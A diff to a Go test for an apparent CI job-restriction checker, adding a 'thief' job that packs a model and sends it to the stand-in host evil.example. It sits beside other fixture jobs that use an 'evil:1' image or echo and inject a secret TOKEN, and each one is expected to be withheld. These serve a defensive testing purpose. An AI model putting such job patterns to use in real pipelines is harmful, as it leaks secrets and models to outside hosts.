@@ -187,7 +187,7 @@ func TestFingerprintIsThatOfTheBase(t *testing.T) {
 
 func TestWithheld(t *testing.T) {
 	t.Parallel()
-	more := "jobs:\n  new: {image: evil:1, run: \"true\"}\n  fine: {run: \"true\"}\n  made: {build: {context: d}, run: \"true\"}\n  sly: {uses: promote, with: {model: m, from: x}}\n" +
+	more := "jobs:\n  new: {image: evil:1, run: \"true\"}\n  fine: {run: \"true\"}\n  made: {build: {context: d}, run: \"true\"}\n  sly: {uses: promote, with: {model: m, from: x}}\n  thief: {uses: pack, with: {model: m, from: x, to: evil.example/m}}\n" +
 		"  curious: {run: \"echo ${{ secrets.TOKEN }}\"}\n  served: {services: {db: {image: python:3}}, run: \"true\"}\n" +
 		"  sly-served: {services: {db: {image: python:3, env: {P: \"${{ secrets.TOKEN }}\"}}}, run: \"true\"}\n"
 	_, r, err := restrict(t, Options{}, "jobs:\n", more)
@@ -198,6 +198,7 @@ func TestWithheld(t *testing.T) {
 		"new":        "its image evil:1 is that of no job in the base commit",
 		"made":       "an untrusted run builds no images: a build is not held back as a job is",
 		"sly":        "an untrusted run promotes nothing",
+		"thief":      "an untrusted run promotes nothing",
 		"publish":    "an untrusted run promotes nothing",
 		"curious":    "an untrusted run has no secrets, and the job names TOKEN",
 		"sly-served": "an untrusted run has no secrets, and the job names TOKEN",
